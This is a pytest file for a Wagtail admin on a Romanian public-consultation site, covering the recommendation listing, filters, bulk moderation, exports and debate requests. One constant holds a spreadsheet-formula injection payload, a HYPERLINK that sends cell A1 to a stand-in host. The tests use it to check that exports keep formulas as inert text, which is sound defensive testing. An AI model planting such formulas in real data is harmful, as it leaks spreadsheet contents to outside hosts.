"""Recommendations in the Wagtail admin: the listing and its filters, bulk moderation, the export, the counts on
the consultation's edit page, and the public-debate requests, through real requests as an editor, a moderator and
a member."""

import csv
import datetime
import io
import json

import pytest
from django.contrib.messages import get_messages
from django.urls import NoReverseMatch, reverse
from openpyxl import load_workbook

from consultations.admin_views import ResponseIndexView
from consultations.models import DebateRequest, Response, ResponseAnswer
from participation.models import ModerationState, TransitionLog
from tests.factories.consultations import (
    ConsultationPageFactory,
    ResponseAnswerFactory,
    ResponseFactory,
)
from tests.factories.directory import OrganizationFactory
from tests.factories.members import UserFactory
from website.groups import EDITORS, MODERATORS, setup_groups
from website.spreadsheets import SafeSpreadsheetExportMixin

pytestmark = pytest.mark.django_db

LISTING = "consultations_response:index"
FORMULA = '=HYPERLINK("http://rau.example/?d="&A1;"Clic")'


@pytest.fixture
def groups(db):
    return setup_groups()


@pytest.fixture
def editor(groups):
    user = UserFactory(username="editoare", first_name="Elena", last_name="Editor")
    user.groups.add(groups[EDITORS])
    return user


@pytest.fixture
def moderator(groups):
    user = UserFactory(username="moderatoare", first_name="Maria", last_name="Moderator")
    user.groups.add(groups[MODERATORS])
    return user


@pytest.fixture
def member(db):
    return UserFactory(first_name="Mihai", last_name="Ionescu")


@pytest.fixture
def consultation(consultation_index):
    return ConsultationPageFactory(parent=consultation_index, title="Regulamentul parcărilor de reședință")


@pytest.fixture
def other_consultation(consultation_index):
    return ConsultationPageFactory(parent=consultation_index, title="Strategia de incluziune socială")


def pending(consultation, **kwargs):
    return ResponseFactory(consultation=consultation, moderation_state=ModerationState.PENDING, **kwargs)


def listing(client, **params):
    response = client.get(reverse(LISTING), params)
    assert response.status_code == 200
    return response


def shown(response):
    """The recommendations in the listing's rows, by primary key."""
    return {row.pk for row in response.context["object_list"]}


def message_texts(response):
    return [str(message).strip() for message in get_messages(response.wsgi_request)]


# The listing


def test_staff_see_the_listing_members_do_not(client, consultation, editor, moderator, member):
    author = UserFactory(first_name="Ioana", last_name="Vasilescu", email="ioana.privat@example.org")
    ResponseFactory(consultation=consultation, author=author, text="Propunem trotuare mai late în Drumul Taberei.")
    client.force_login(member)
    assert client.get(reverse(LISTING)).status_code in (302, 403)
    assert client.get(reverse("consultations_debaterequest:index")).status_code in (302, 403)
    for user in (editor, moderator):
        client.force_login(user)
        html = listing(client).content.decode()
        assert "Propunem trotuare mai late" in html
        assert "Ioana Vasilescu" in html
        assert "Regulamentul parcărilor de reședință" in html
        assert "ioana.privat@example.org" not in html


def test_the_listing_is_read_only(client, consultation, editor):
    response = ResponseAnswerFactory(
        response=ResponseFactory(consultation=consultation),
        verdict=ResponseAnswer.Verdict.PARTLY,
        justification="Doar în sectorul 3.",
    ).response
    for name in ("add", "edit", "delete", "copy"):
        with pytest.raises(NoReverseMatch):
            reverse(f"consultations_response:{name}", args=[] if name == "add" else [response.pk])
    client.force_login(editor)
    page = client.get(reverse("consultations_response:inspect", args=[response.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert response.text in html
    assert "Răspunsul autorității" in html
    assert "acceptată parțial: Doar în sectorul 3." in html
    assert response.author.email not in html


def test_the_menu_groups_recommendations_and_debate_requests(client, editor):
    client.force_login(editor)
    html = client.get(reverse("wagtailadmin_home")).content.decode()
    # The sidebar is JSON in the page: "Consultări" with its two entries.
    assert json.dumps("Consultări") in html
    assert f'"url": "{reverse(LISTING)}"' in html
    assert f'"url": "{reverse("consultations_debaterequest:index")}"' in html


def test_filters(client, consultation, other_consultation, editor):
    organization = OrganizationFactory(name="Asociația Vecinii din Titan")
    waiting = pending(consultation)
    unanswered = ResponseFactory(consultation=consultation, organization=organization)
    accepted = ResponseAnswerFactory(response=ResponseFactory(consultation=consultation)).response
    refused = ResponseAnswerFactory(
        response=ResponseFactory(consultation=other_consultation, text="Un parc în fiecare cartier."),
        verdict=ResponseAnswer.Verdict.NOT_ACCEPTED,
        justification="Nu există teren disponibil.",
    ).response
    client.force_login(editor)

    assert shown(listing(client)) == {waiting.pk, unanswered.pk, accepted.pk, refused.pk}
    assert shown(listing(client, consultation=other_consultation.pk)) == {refused.pk}
    assert shown(listing(client, moderation_state="pending")) == {waiting.pk}
    assert shown(listing(client, moderation_state=["pending", "approved"], consultation=consultation.pk)) == {
        waiting.pk,
        unanswered.pk,
        accepted.pk,
    }
    assert shown(listing(client, answer="waiting")) == {unanswered.pk}
    assert shown(listing(client, answer="answered")) == {accepted.pk, refused.pk}
    assert shown(listing(client, answer="not_accepted")) == {refused.pk}
    assert shown(listing(client, answer="accepted")) == {accepted.pk}
    assert shown(listing(client, on_behalf="true")) == {unanswered.pk}
    assert waiting.pk in shown(listing(client, on_behalf="false"))
    assert unanswered.pk not in shown(listing(client, on_behalf="false"))
    assert shown(listing(client, q="parc în fiecare")) == {refused.pk}
    # A value the filters do not know is ignored, not a 500.
    assert len(shown(listing(client, answer="poate", consultation="abc"))) == 4


def test_the_columns_read_at_a_glance(client, consultation, editor):
    organization = OrganizationFactory(name="Fundația Lumina")
    ResponseAnswerFactory(
        response=ResponseFactory(consultation=consultation, organization=organization, section="art. 7"),
        verdict=ResponseAnswer.Verdict.PARTLY,
        justification="Doar pentru sectorul 3.",
    )
    pending(consultation)
    client.force_login(editor)
    html = listing(client).content.decode()
    for text in ("Fundația Lumina", "în nume propriu", "art. 7", "acceptată parțial", "așteaptă moderarea"):
        assert text in html, text


# Measured with a few rows; the same with ten times as many.
LISTING_MAX_QUERIES = 17
EXPORT_MAX_QUERIES = 6


@pytest.mark.parametrize("count", [3, 30])
def test_query_counts_are_constant(
    client, consultation, other_consultation, moderator, django_assert_max_num_queries, count
):
    organization = OrganizationFactory()
    for n in range(count):
        response = ResponseFactory(
            consultation=consultation,
            organization=organization if n % 2 else None,
            moderation_state=ModerationState.PENDING if n % 3 else ModerationState.APPROVED,
        )
        if n % 3 == 0 and n % 2 == 0:
            ResponseAnswerFactory(response=response)
        DebateRequest.objects.create(
            consultation=other_consultation if n % 2 else consultation,
            organization=OrganizationFactory(),
            requested_by=response.author,
        )
    client.force_login(moderator)
    listing(client)  # warm the per-process caches (content types, site)
    with django_assert_max_num_queries(LISTING_MAX_QUERIES):
        assert len(shown(listing(client))) == count
    for export in ("csv", "xlsx"):
        with django_assert_max_num_queries(EXPORT_MAX_QUERIES):
            response = client.get(reverse(LISTING), {"export": export})
            assert len(b"".join(response.streaming_content)) > 0
    with django_assert_max_num_queries(LISTING_MAX_QUERIES):
        debate_requests = client.get(reverse("consultations_debaterequest:index"))
        assert len(debate_requests.context["object_list"]) == count


# Bulk moderation


def bulk_url(action, *responses, **params):
    query = "&".join([f"id={response.pk}" for response in responses] + [f"{k}={v}" for k, v in params.items()])
    return reverse("wagtail_bulk_action", args=["consultations", "response", action]) + "?" + query


def test_moderators_get_the_bulk_actions_editors_do_not(client, consultation, editor, moderator):
    pending(consultation)
    client.force_login(moderator)
    html = listing(client).content.decode()
    assert "bulk-action-checkbox" in html
    assert bulk_url("approve").split("?")[0] in html
    client.force_login(editor)
    html = listing(client).content.decode()
    assert "bulk-action-checkbox" not in html
    assert bulk_url("approve").split("?")[0] not in html


def test_a_moderator_approves_several(client, consultation, moderator):
    first, second = pending(consultation), pending(consultation)
    untouched = pending(consultation)
    client.force_login(moderator)
    url = bulk_url("approve", first, second, next=reverse(LISTING))
    confirm = client.get(url)
    assert confirm.status_code == 200
    assert consultation.title in confirm.content.decode()

    result = client.post(url)
    assert result.status_code == 302
    assert result["Location"] == reverse(LISTING)
    for response in (first, second):
        response.refresh_from_db()
        assert response.moderation_state == ModerationState.APPROVED
        assert response.moderated_by == moderator
    untouched.refresh_from_db()
    assert untouched.moderation_state == ModerationState.PENDING
    logs = TransitionLog.objects.filter(action="approve", actor=moderator)
    assert sorted(int(log.object_id) for log in logs) == sorted([first.pk, second.pk])
    assert "2 recomandări aprobate și publicate." in message_texts(result)


def test_a_rejection_needs_the_reason_the_authors_see(client, consultation, moderator):
    first, second = pending(consultation), pending(consultation)
    client.force_login(moderator)
    url = bulk_url("reject", first, second)
    page = client.post(url, {"reason": "   "})
    assert page.status_code == 200
    assert "autorii îl vor vedea" in page.content.decode()
    assert Response.objects.filter(moderation_state=ModerationState.PENDING).count() == 2

    client.post(url, {"reason": "Nu se referă la proiectul de act."})
    for response in (first, second):
        response.refresh_from_db()
        assert response.moderation_state == ModerationState.REJECTED
        assert response.moderation_reason == "Nu se referă la proiectul de act."


def test_editors_see_but_do_not_decide(client, consultation, editor):
    response = pending(consultation)
    client.force_login(editor)
    refused = client.get(bulk_url("approve", response))
    assert refused.status_code == 403
    assert "Doar moderatorii aprobă sau resping recomandările" in refused.content.decode()
    assert client.post(bulk_url("approve", response)).status_code == 403
    assert client.post(bulk_url("reject", response), {"reason": "Nu."}).status_code == 403
    response.refresh_from_db()
    assert response.moderation_state == ModerationState.PENDING
    assert not TransitionLog.objects.exists()


def test_members_cannot_reach_the_bulk_actions(client, consultation, member):
    response = pending(consultation)
    client.force_login(member)
    assert client.post(bulk_url("approve", response)).status_code in (302, 403)
    response.refresh_from_db()
    assert response.moderation_state == ModerationState.PENDING


def test_a_refused_item_is_reported_and_the_rest_applied(client, consultation, moderator):
    already = ResponseFactory(consultation=consultation, text="Deja aprobată de altcineva.")
    waiting = pending(consultation)
    client.force_login(moderator)
    confirm = client.get(bulk_url("approve", already, waiting)).content.decode()
    assert "nu așteaptă moderarea" in confirm

    result = client.post(bulk_url("approve", already, waiting))
    waiting.refresh_from_db()
    assert waiting.moderation_state == ModerationState.APPROVED
    texts = message_texts(result)
    assert "1 recomandare aprobată și publicată." in texts
    (refusal,) = [text for text in texts if "Deja aprobată" in text]
    assert refusal.startswith("Neschimbată: „Deja aprobată de altcineva.” (Regulamentul parcărilor de reședință).")
    assert "în starea „aprobată”" in refusal
    assert TransitionLog.objects.filter(action="approve").count() == 1


def test_select_all_keeps_the_listing_filters(client, consultation, other_consultation, moderator):
    mine = [pending(consultation), pending(consultation)]
    other = pending(other_consultation)
    client.force_login(moderator)
    client.post(bulk_url("approve", consultation=consultation.pk) + "&id=all")
    assert {r.pk for r in Response.objects.filter(moderation_state=ModerationState.APPROVED)} == {r.pk for r in mine}
    other.refresh_from_db()
    assert other.moderation_state == ModerationState.PENDING


def test_bad_ids_are_a_404_not_a_500(client, moderator):
    client.force_login(moderator)
    url = reverse("wagtail_bulk_action", args=["consultations", "response", "approve"])
    assert client.get(url + "?id=abc&id=99999999999999999999").status_code == 404
    assert client.get(url).status_code == 404


# The export


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def xlsx_rows(response):
    assert response.status_code == 200
    header, *rows = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.iter_rows()
    return [dict(zip([cell.value for cell in header], row, strict=True)) for row in rows]


HEADINGS = [
    "Consultare",
    "Trimisă la",
    "În numele",
    "Autor",
    "Articol sau secțiune",
    "Recomandare",
    "Moderare",
    "Răspuns",
    "Justificare",
    "Răspuns la",
]


@pytest.fixture
def exported(consultation, other_consultation):
    author = UserFactory(first_name="Ștefan", last_name="Țurcanu", email="stefan.privat@example.org")
    organization = OrganizationFactory(name="Asociația „Șoimii” București")
    answered = ResponseAnswerFactory(
        response=ResponseFactory(consultation=consultation, author=author, text=FORMULA, section="art. 2"),
        verdict=ResponseAnswer.Verdict.NOT_ACCEPTED,
        justification="Propunerea depășește competența consiliului; țintim anul viitor.",
    )
    pending(consultation, organization=organization, author=author, text="Înființarea unui centru de zi.")
    ResponseFactory(consultation=other_consultation, text="Altă consultare.")
    return answered


def test_the_csv_export_holds_every_recommendation_with_its_answer(client, consultation, editor, exported):
    client.force_login(editor)
    response = client.get(reverse(LISTING), {"export": "csv", "consultation": consultation.pk})
    assert f"recomandari-{consultation.slug}.csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert list(rows[0]) == HEADINGS
    by_text = {row["Recomandare"]: row for row in rows}
    assert set(by_text) == {"'" + FORMULA, "Înființarea unui centru de zi."}  # only the filtered consultation

    answered = by_text["'" + FORMULA]  # a formula stays text
    assert answered["Consultare"] == "Regulamentul parcărilor de reședință"
    assert answered["În numele"] == "în nume propriu"
    assert answered["Autor"] == "Ștefan Țurcanu"
    assert answered["Articol sau secțiune"] == "art. 2"
    assert answered["Moderare"] == "aprobată"
    assert answered["Răspuns"] == "neacceptată"
    assert answered["Justificare"] == "Propunerea depășește competența consiliului; țintim anul viitor."
    assert answered["Răspuns la"].startswith(str(datetime.date.today().year))
    assert answered["Trimisă la"]

    waiting = by_text["Înființarea unui centru de zi."]
    assert waiting["În numele"] == "Asociația „Șoimii” București"
    assert waiting["Moderare"] == "așteaptă moderarea"
    assert waiting["Răspuns"] == waiting["Justificare"] == waiting["Răspuns la"] == ""

    body = "".join(value for row in rows for value in row.values())
    assert "stefan.privat@example.org" not in body


def test_the_xlsx_export_is_inert_and_keeps_diacritics(client, editor, exported):
    client.force_login(editor)
    rows = xlsx_rows(client.get(reverse(LISTING), {"export": "xlsx"}))
    assert len(rows) == 3
    (formula,) = [row for row in rows if row["Recomandare"].value == FORMULA]
    assert formula["Recomandare"].data_type == "s"
    assert formula["Recomandare"].quotePrefix
    assert formula["Autor"].value == "Ștefan Țurcanu"
    assert formula["Răspuns"].value == "neacceptată"
    assert formula["Trimisă la"].is_date
    assert all("stefan.privat@example.org" not in str(cell.value) for row in rows for cell in row.values())


def test_the_exports_go_through_the_safe_writer():
    assert issubclass(ResponseIndexView, SafeSpreadsheetExportMixin)


def test_members_cannot_export(client, member, exported):
    client.force_login(member)
    assert client.get(reverse(LISTING), {"export": "csv"}).status_code in (302, 403)


# The consultation's admin pages


def test_the_edit_page_counts_what_waits(client, consultation, other_consultation, editor):
    pending(consultation)
    pending(consultation)
    ResponseFactory(consultation=consultation)  # approved, no answer yet
    ResponseAnswerFactory(response=ResponseFactory(consultation=consultation))
    pending(other_consultation)
    client.force_login(editor)
    html = client.get(reverse("wagtailadmin_pages:edit", args=[consultation.pk])).content.decode()
    assert "2 recomandări așteaptă moderarea" in html
    assert "1 recomandare aprobată așteaptă răspunsul" in html
    assert "4 recomandări în total" in html
    pending_link = f"{reverse(LISTING)}?consultation={consultation.pk}&amp;moderation_state=pending"
    assert pending_link in html
    assert f"{reverse(LISTING)}?consultation={consultation.pk}&amp;answer=waiting" in html

    # The links open the listing on what they counted.
    assert len(shown(listing(client, consultation=consultation.pk, moderation_state="pending"))) == 2
    assert len(shown(listing(client, consultation=consultation.pk, answer="waiting"))) == 1


def test_the_creation_form_has_no_counts(client, consultation_index, editor):
    client.force_login(editor)
    url = reverse("wagtailadmin_pages:add", args=["consultations", "consultationpage", consultation_index.pk])
    page = client.get(url)
    assert page.status_code == 200
    assert "așteaptă moderarea" not in page.content.decode()


def test_the_page_explorer_links_each_consultation_to_its_recommendations(
    client, consultation_index, consultation, other_consultation, editor
):
    for _ in range(3):
        pending(consultation)
    client.force_login(editor)
    html = client.get(reverse("wagtailadmin_explore", args=[consultation_index.pk])).content.decode()
    assert "Recomandări (3)" in html
    assert "Recomandări (0)" in html
    assert f"{reverse(LISTING)}?consultation={consultation.pk}" in html


# Public-debate requests


def test_staff_list_the_debate_requests_by_consultation(client, consultation, other_consultation, editor, moderator):
    asker = UserFactory(first_name="Ana", last_name="Marinescu", email="ana.privat@example.org")
    DebateRequest.objects.create(
        consultation=consultation, organization=OrganizationFactory(name="Asociația Pro Vecini"), requested_by=asker
    )
    DebateRequest.objects.create(
        consultation=other_consultation, organization=OrganizationFactory(name="Fundația Sprijin")
    )
    url = reverse("consultations_debaterequest:index")
    for user in (editor, moderator):
        client.force_login(user)
        html = client.get(url).content.decode()
        assert "Asociația Pro Vecini" in html
        assert "Fundația Sprijin" in html
        assert "Ana Marinescu" in html
        assert "ana.privat@example.org" not in html
    filtered = client.get(url, {"consultation": other_consultation.pk})
    assert [item.organization.name for item in filtered.context["object_list"]] == ["Fundația Sprijin"]
    with pytest.raises(NoReverseMatch):
        reverse("consultations_debaterequest:edit", args=[1])
